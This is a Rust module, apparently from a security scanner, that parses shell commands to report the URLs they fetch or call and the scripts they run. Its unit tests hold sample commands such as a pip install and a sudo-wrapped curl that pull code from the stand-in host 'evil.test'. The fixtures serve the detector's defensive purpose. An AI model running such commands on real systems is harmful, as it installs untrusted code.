//! What a shell command does, from its words: which URLs it fetches or calls, with which headers, and which code it runs.
//!
//! A word comes folded: quotes are gone, known variables are replaced, what is computed is a hole. Which options take a
//! value, and what the values mean, is data (`rules/roles/shell.toml`); [`words`] reads the words by it, as getopt(3) does.
//! [`http`] makes requests of what curl, wget and HTTPie were given.

pub(super) mod argv;
mod http;
mod words;

pub(in crate::parse) use http::Request;

use super::Language;
use super::ir::ExprKind;
use super::observe::RedirectEvent;
use crate::model::{Commands, Operands, OptionMeaning, Role, Text};

/// How many commands may run each other (`sudo env timeout 5 curl …`).
const MAX_WRAPPERS: usize = 8;

/// What a command does.
#[derive(Debug, Default)]
pub(in crate::parse) struct Effects<'s> {
    /// The requests it makes.
    pub(in crate::parse) requests: Vec<Request<'s>>,
    /// Further absolute URLs that it fetches or talks to.
    pub(in crate::parse) urls: Vec<(Text<'s>, Role)>,
    /// Code that it runs, and its language.
    pub(in crate::parse) scripts: Vec<(Text<'s>, Language)>,
}

/// Reads a command: its name and the words after it.
pub(in crate::parse) fn effects<'s>(words: &[Text<'s>], commands: &Commands) -> Effects<'s> {
    let mut effects = Effects::default();
    let mut words = words;
    for _ in 0..MAX_WRAPPERS {
        let Some((name, rest)) = words.split_first() else { break };
        let Some(next) = read(program(name.as_str()), rest, commands, &mut effects) else { break };
        words = words.get(next + 1..).unwrap_or_default();
    }
    effects
}

/// The language in which the command that gets a here-document reads it, if it runs it.
pub(super) fn reader(redirect: &RedirectEvent<'_, '_>, commands: &Commands) -> Option<Language> {
    let mut command = redirect.command;
    let call = loop {
        match &command.kind {
            ExprKind::Redirect { command: inner, .. } => command = inner,
            ExprKind::Call(call) => break call,
            _ => return None,
        }
    };
    let words = std::iter::once(&call.callee).chain(call.arguments.iter().map(|argument| &argument.value));
    let mut names = words.filter_map(|word| match &word.kind {
        ExprKind::Literal(text) if !text.as_str().starts_with('-') => Some(text.as_str()),
        _ => None,
    });
    // `sudo bash <<EOF`, `ssh host bash <<EOF`.
    names.find_map(|name| commands.language(program(name)).and_then(Language::of_extension))
}

/// The program's name without its folder, and without the tag of an image that is named after it.
fn program(word: &str) -> &str {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    name.split_once(':').map_or(name, |(name, _)| name)
}

/// Reads one command; returns the index in `rest` at which the command that it runs begins.
fn read<'s>(name: &str, rest: &[Text<'s>], commands: &Commands, effects: &mut Effects<'s>) -> Option<usize> {
    let (syntax, read, skip) = commands.named(name).find_map(|syntax| {
        let read = words::read(rest, syntax);
        let skip = subcommand(&syntax.subcommands, &read.operands)?;
        Some((syntax, read, skip))
    })?;
    let operands = read.operands.get(skip..).unwrap_or_default();
    let language = syntax.language.as_deref().and_then(Language::of_extension).unwrap_or(Language::Shell);
    for option in &read.options {
        match option.meaning {
            OptionMeaning::Download => effects.absolute(&option.value, Role::Download),
            OptionMeaning::Endpoint => effects.absolute(&option.value, Role::Endpoint),
            OptionMeaning::Script => effects.scripts.push((option.value.clone(), language)),
            OptionMeaning::Command => return Some(option.at),
            _ => {}
        }
    }
    match syntax.operands {
        Operands::None => {}
        Operands::Url | Operands::Httpie => http::requests(name, syntax.operands, &read, &mut effects.requests),
        Operands::Download => operands.iter().for_each(|operand| effects.absolute(&operand.value, Role::Download)),
        Operands::Endpoint => operands.iter().for_each(|operand| effects.absolute(&operand.value, Role::Endpoint)),
        Operands::Command => {
            let mut candidates = operands.iter().skip_while(|operand| is_assignment(operand.value.as_str())).skip(syntax.leading);
            return candidates.next().map(|operand| operand.at);
        }
        Operands::Search => {
            // The options of the outer command are not all known: the first word that names a known command begins it.
            for (at, word) in rest.iter().enumerate().skip(skip) {
                if word.as_str().contains(char::is_whitespace) {
                    effects.scripts.push((word.clone(), Language::Shell));
                } else if commands.named(program(word.as_str())).next().is_some() {
                    return Some(at);
                }
            }
        }
        Operands::Script => effects.scripts.extend(operands.iter().map(|operand| (operand.value.clone(), language))),
    }
    None
}

/// How many operands the subcommand takes that these operands begin with; `None` if they begin with none of them.
fn subcommand(subcommands: &[String], operands: &[words::Operand<'_>]) -> Option<usize> {
    if subcommands.is_empty() {
        return Some(0);
    }
    subcommands.iter().find_map(|subcommand| {
        let mut at = 0;
        for word in subcommand.split(' ') {
            if operands.get(at)?.value.as_str() != word {
                return None;
            }
            at += 1;
        }
        Some(at)
    })
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || c == '_') && !name.starts_with(|c: char| c.is_ascii_digit())
    })
}

impl<'s> Effects<'s> {
    /// Adds an absolute URL: a `git+`, `sparse+` or `name @ ` before it, as package managers write it, is left out.
    fn absolute(&mut self, value: &Text<'s>, role: Role) {
        let word = value.as_str();
        let Some(colon) = word.find("://") else { return };
        let head = word.get(..colon).unwrap_or_default();
        let start = head
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '.')))
            .map_or(0, |at| at + head.get(at..).and_then(|rest| rest.chars().next()).map_or(1, char::len_utf8));
        if start < colon {
            self.urls.push((value.slice(start..value.len()), role));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Document, Encoding};

    /// The words of a line that needs no quotes: split at spaces.
    pub(super) fn words(line: &str) -> Vec<Text<'_>> {
        let mut at = 0;
        let mut out = Vec::new();
        for word in line.split(' ') {
            if !word.is_empty() {
                out.push(Text::exact(word, at));
            }
            at += word.len() + 1;
        }
        out
    }

    /// The commands of `rules/roles/shell.toml`.
    pub(super) fn commands() -> Commands {
        crate::parse::script::tests::vocabulary().commands
    }

    fn urls(line: &str) -> Vec<String> {
        let document = Document::new("x", line, Encoding::Utf8 { bom: false });
        let effects = effects(&words(line), &commands());
        let requests = effects.requests.iter().flat_map(|r| r.urls.iter().map(|url| (url, r.role())));
        let urls = effects.urls.iter().map(|(url, role)| (url, *role));
        requests.chain(urls).map(|(url, role)| format!("{role} {}", document.slice(url.whole_span()))).collect()
    }

    #[test]
    fn package_managers_fetch_absolute_urls() {
        assert_eq!(urls("pip install git+https://evil.test/r.git@v1#egg=x"), ["download https://evil.test/r.git@v1#egg=x"]);
        assert_eq!(urls("pip install -i https://i.test/simple requests"), ["download https://i.test/simple"]);
        assert_eq!(urls("pip3 install --extra-index-url=https://i.test/simple x"), ["download https://i.test/simple"]);
        assert_eq!(urls("python -m pip install https://a.test/x.whl"), ["download https://a.test/x.whl"]);
        assert_eq!(urls("npm ci --registry https://r.test/"), ["download https://r.test/"]);
        assert_eq!(urls("git clone --depth 1 https://g.test/r.git dir"), ["download https://g.test/r.git"]);
        assert_eq!(urls("git commit -m https://g.test/r.git"), Vec::<String>::new());
        assert_eq!(urls("cargo install --git https://g.test/r x"), ["download https://g.test/r"]);
    }

    #[test]
    fn commands_run_commands() {
        assert_eq!(urls("sudo -u root env A=b timeout 5 curl -s evil.test/x"), ["download evil.test/x"]);
        assert_eq!(urls("docker run --rm curlimages/curl:8.1 -X POST http://a.test/"), ["endpoint http://a.test/"]);
        assert_eq!(urls("find . -exec curl http://a.test/ ;"), ["download http://a.test/"]);
        assert_eq!(urls("sudo apt-get install curl wget"), Vec::<String>::new());
    }
}
